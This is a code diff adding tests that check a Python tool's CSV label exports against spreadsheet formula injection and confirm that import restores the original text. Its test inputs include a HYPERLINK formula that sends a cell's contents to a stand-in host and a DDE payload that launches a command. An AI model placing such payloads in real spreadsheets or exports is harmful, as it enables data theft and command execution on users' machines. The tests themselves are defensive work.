@@ -12,6 +12,8 @@ from pathlib import Path
 
 import pyarrow.parquet as pq
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from horizonlens.cli import app
@@ -191,3 +193,62 @@ def test_export_csv_and_parquet_and_import_them_back(corpus: Path, tmp_path: Pat
     back = label_queries.all_labels(open_store(other)).to_pylist()
     assert sorted((r["trajectory_id"], r["step"], r["label"], r["note"], r["source"]) for r in back) == sorted(
         (r["trajectory_id"], int(r["step"]), r["label"], r["note"] or None, r["source"]) for r in rows)
+
+
+# --- exports safe to open in a spreadsheet ------------------------------------------------------------------------
+FORMULAS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
+            "\tindented", "\rreturn", "'=already quoted", "''=twice", "plain", "a=b", "-"]
+
+
+def test_label_csv_export_neutralises_formulas_and_imports_back(corpus: Path, tmp_path: Path) -> None:
+    """OWASP: a cell starting with = + - @ tab or CR gets a leading quote; the table import takes it off again."""
+    # labels and agents are stored trimmed, so the tab and CR cases are notes
+    labels = [Label("A-t0", t if t == t.strip() else f"label {i}", step=1, note=t, agent=t.strip() or None)
+              for i, t in enumerate(FORMULAS)]
+    add_labels(corpus, labels)
+    runner = CliRunner()
+    out = runner.invoke(app, ["annotate", "export", str(corpus), "--out", str(tmp_path / "l.csv")])
+    assert out.exit_code == 0, out.output
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "l.csv").read_bytes().decode(), newline="")))
+    cells = [r[c] for r in rows for c in ("label", "note", "agent")]
+    assert len(cells) == 3 * len(FORMULAS)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert sorted(r["note"] for r in rows) == sorted("'" + t if t[:1] in "=+-@\t\r" or t.startswith(("'=", "''="))
+                                                     else t for t in FORMULAS)
+    other = make_corpus(tmp_path / "other", [traj_row("A-t0", 4)], [step_row("A-t0", s) for s in range(4)])
+    res = runner.invoke(app, ["annotate", "import", str(tmp_path / "l.csv"), "--into", str(other), "--format", "table"])
+    assert res.exit_code == 0, res.output
+    back = label_queries.all_labels(open_store(other)).to_pylist()
+    assert sorted((r["label"], r["note"], r["agent"]) for r in back) == sorted(
+        (x.label, x.note, x.agent) for x in labels)
+
+
+@settings(max_examples=300, deadline=None)
+@given(text=st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "\n"]), max_size=6))
+def test_csv_cells_are_neutralised_and_restored_exactly(text: str) -> None:
+    from horizonlens.storage.csv_cells import neutralise, restore
+
+    safe = neutralise(text)
+    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert restore(safe) == text
+
+
+def test_csv_bytes_of_frames_and_tables_agree() -> None:
+    import pandas as pd
+    import pyarrow as pa
+
+    from horizonlens.storage.csv_cells import csv_bytes
+
+    df = pd.DataFrame({"text": ["=1+1", "ok", None], "n": [-1, 2, 3], "lists": [["=x"], [], None]})
+    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode())))
+    assert rows[1][:2] == ["'=1+1", "-1"]  # numbers stay numbers; only text is quoted
+    table = pa.table({"text": ["=1+1", "@x", None], "n": [-1, 2, 3]})
+    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode())))
+    assert [r[0] for r in rows[1:]] == ["'=1+1", "'@x", ""] and rows[1][1] == "-1"
+
+
+def test_label_csv_download_is_the_same_safe_bytes(corpus: Path) -> None:
+    add_labels(corpus, [Label("A-t0", "=1+1", step=1)])
+    table = label_queries.all_labels(open_store(corpus))
+    text = ann.export_bytes(table, "csv").decode()
+    assert "'=1+1" in text and ",=1+1" not in text
